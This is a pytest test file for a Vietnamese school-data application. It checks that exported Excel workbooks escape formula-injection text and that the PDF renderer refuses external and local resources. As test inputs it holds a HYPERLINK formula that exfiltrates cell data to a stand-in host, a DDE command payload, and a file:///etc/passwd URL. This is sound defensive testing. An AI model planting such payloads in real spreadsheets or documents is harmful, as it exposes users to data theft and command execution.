"""No workbook the application writes runs a formula that came in with the data (OWASP CSV/formula
injection): a name beginning with ``=`` is refused on import, and whatever reaches a writer anyway
is written as text (a leading apostrophe), in the reconciliation report, the CSDL import files and
the portal's report workbooks."""

import io
import logging
import socket
from datetime import datetime

import pytest
from openpyxl import load_workbook

from lienthong.connectors.csdl.excel import write_results, write_student_list
from lienthong.mapping.errors import MappingError
from lienthong.mapping.normalize import clean_name, safe_text
from lienthong.reconciliation.portal_reports import attendance_report
from lienthong.reconciliation.reports import ReportContext, render_xlsx
from lienthong.simulators.school import VN_TZ

HOSTILE = '=HYPERLINK("http://x/?id="&INDEX(L:L,ROW()),"Lê Văn Bình")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes, *texts: str) -> None:
    """No formula cell at all, and each hostile text is there, as text, apostrophe first."""
    found = cells(data)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    values = {c.value for c in found}
    for text in texts:
        assert safe_text(text) in values and safe_text(text) == "'" + text


def test_clean_name_refuses_a_formula_with_a_reason_in_vietnamese():
    for value in (HOSTILE, "+Nguyễn An", "-Lê Văn Bình", "@Trần Hoa", "\t=A+B"):
        with pytest.raises(MappingError) as refused:
            clean_name(value)
        assert "bắt đầu bằng" in refused.value.reason
    assert clean_name("  Lê Văn Bình ") == "Lê Văn Bình"


def record(name: str, class_code: str, message: str) -> dict:
    """One reconciliation record (the JSON of `Discrepancy.as_json`) carrying hostile text."""
    return {
        "id": "D-0001",
        "kind": "name_mismatch",
        "class": class_code,
        "student": {"name": name, "keys": {"vnedu": "=1+1", "csdl": "7900000001"}},
        "subject": None,
        "semester": None,
        "field": "ho_ten",
        "values": {"vnedu": name, "csdl": "Lê Văn Bình"},
        "message": message,
        "suggestion": "-kiểm tra lại",
        "severity": "high",
    }


def test_reconciliation_report_xlsx_holds_no_formula():
    context = ReportContext("Trường THCS Bình An", "2026-2027", datetime(2026, 11, 23, 9, 30, tzinfo=VN_TZ))
    context = ReportContext(
        context.school, context.school_year, context.generated, None, {"@6A1": "+GV"}, {"vnedu": "vnEdu"}
    )
    data = render_xlsx([record(HOSTILE, "@6A1", OTHERS[0])], context)
    assert_no_formula(data, HOSTILE, "@6A1", OTHERS[0], "-kiểm tra lại", "+GV", "=1+1")


def test_csdl_student_list_holds_no_formula():
    student = {
        "MaLop": "+6A1",
        "MaDinhDanh": "7900000001",
        "HoTen": HOSTILE,
        "NgaySinh": "2014-05-06",
        "GioiTinh": "1",
        "MaDanToc": "01",
        "TrangThai": "1",
        "SoDinhDanhCaNhan": "@079214000001",
    }
    assert_no_formula(write_student_list([student]), HOSTILE, "+6A1", "@079214000001")


def test_csdl_results_hold_no_formula():
    result = {
        "MaDinhDanh": "7900000001",
        "HocKy": "CN",
        "Mon": [{"MaMon": "TOAN", "DiemTB": "-1+9"}, {"MaMon": "GDTC", "KetQuaDanhGia": "=1"}],
        "KetQuaHocTap": "T",
        "KetQuaRenLuyen": "T",
        "SoBuoiNghiCoPhep": 0,
        "SoBuoiNghiKhongPhep": 0,
        "DanhHieu": "@XS",
        "LenLop": "LL",
    }
    students = {"7900000001": {"HoTen": HOSTILE, "NgaySinh": "2013-09-05", "MaLop": "8A1"}}
    assert_no_formula(write_results([result], students, "CN"), HOSTILE, "-1+9", "=1", "@XS")


def test_portal_report_workbook_holds_no_formula():
    report = attendance_report({HOSTILE: (42, 3, 1, 0), "6A2": (40, 0, 0, 0)})
    data = report.workbook("=Báo cáo chuyên cần")
    assert_no_formula(data, HOSTILE, "=Báo cáo chuyên cần")
    numbers = [c.value for c in cells(data) if isinstance(c.value, int)]
    assert 82 in numbers  # counts stay numbers: only text is touched


def test_pdf_fetches_nothing_the_html_points_at(caplog):
    """A report's PDF never reads a local file nor calls a server, whatever its HTML says: a
    listening socket receives no connection, and each URL is refused by name."""
    pytest.importorskip("weasyprint")
    from lienthong.reconciliation.reports import html_to_pdf

    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        web = f"http://127.0.0.1:{server.getsockname()[1]}"
        urls = ["file:///etc/passwd", f"{web}/a.png", f"{web}/s.css", "data:image/png;base64,iVBORw0KGgo="]
        html = (
            f'<link rel="stylesheet" href="{urls[2]}"><p>Lê Văn Bình</p>'
            f'<img src="{urls[0]}"><img src="{urls[1]}"><img src="{urls[3]}">'
        )
        with caplog.at_level(logging.WARNING):
            pdf = html_to_pdf(html)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert pdf.startswith(b"%PDF-")
    refused = caplog.text
    assert refused.count("ExternalResourceRefused") == len(urls)
    assert all(url[:40] in refused for url in urls)
